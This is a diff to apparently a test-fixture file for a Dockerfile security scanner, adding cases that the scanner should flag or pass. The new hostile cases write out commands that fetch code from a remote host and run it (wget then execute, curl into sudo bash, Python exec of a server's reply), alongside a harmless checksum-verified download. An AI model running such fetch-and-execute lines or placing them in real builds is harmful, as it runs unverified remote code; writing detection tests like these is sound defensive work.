@@ -12,6 +12,24 @@ const hostile = (what: string, rule: string, text: string, at: string, path = 's
 
 export const hostileDockerfiles: readonly HostileConfig[] = [
   hostile(
+    'program that is fetched, made one and started',
+    'pipeline-remote-script',
+    `${base}RUN wget -q -O /tmp/setup http://acme.io/setup \\\n && chmod +x /tmp/setup \\\n && /tmp/setup\n`,
+    'RUN wget',
+  ),
+  hostile(
+    'script that is fetched and handed to a shell',
+    'pipeline-remote-script',
+    `${base}RUN curl -fsS http://acme.io/a.sh -o a.sh; sudo bash ./a.sh\n`,
+    'RUN curl',
+  ),
+  hostile(
+    'Python that runs what a server answers',
+    'pipeline-remote-script',
+    `${base}RUN python -c "import urllib.request as u; exec(u.urlopen('http://acme.io/a').read())"\n`,
+    'RUN python',
+  ),
+  hostile(
     'Jupyter without token',
     'workload-model-server',
     `${base}CMD ["jupyter", "lab", "--ip=0.0.0.0", "--NotebookApp.token=''"]\n`,
@@ -95,6 +113,10 @@ export const hostileDockerfiles: readonly HostileConfig[] = [
 
 const harmless = (what: string, text: string, path = 'Dockerfile'): HarmlessConfig => ({ what, text, path });
 export const harmlessDockerfiles: readonly HarmlessConfig[] = [
+  harmless(
+    'a program that is compared before it is started',
+    `FROM python:3.12-slim\nRUN curl -fsSL https://acme.io/tool -o /usr/local/bin/tool && echo "${'a'.repeat(64)}  /usr/local/bin/tool" | sha256sum -c - && chmod +x /usr/local/bin/tool && /usr/local/bin/tool --version\nRUN curl -fsSL https://acme.io/data.json -o data.json && python convert.py data.json\nUSER 1000\n`,
+  ),
   harmless(
     'a service',
     `FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nUSER 1000\nEXPOSE 8000\nCMD ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8000"]\n`,
